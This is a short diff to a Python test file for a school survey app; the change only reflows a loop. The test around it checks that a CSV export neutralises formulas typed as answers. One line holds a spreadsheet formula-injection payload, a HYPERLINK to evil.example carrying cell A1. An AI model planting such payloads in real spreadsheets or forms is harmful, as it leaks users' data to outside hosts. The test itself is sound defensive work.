@@ -33,7 +33,9 @@ def test_a_hostile_class_in_the_results_filter_is_ignored(world, as_user, survey
 
 
 def test_a_formula_typed_as_an_answer_is_text_in_the_csv_export(world, as_user, survey, settings):
-    for n, who in enumerate([world.parent, world.other_parent, world.student.user, world.other_student.user, world.teacher]):
+    for n, who in enumerate(
+        [world.parent, world.other_parent, world.student.user, world.other_student.user, world.teacher]
+    ):
         text = '=HYPERLINK("http://evil.example/?"&A1,"x")' if n == 0 else f"+{n}"
         services.submit_response(ctx=_ctx(world, who), survey=survey, answers=answers_for(survey, text=text))
     url = reverse("surveys:results", kwargs={"school": world.school.slug, "survey_id": survey.pk})
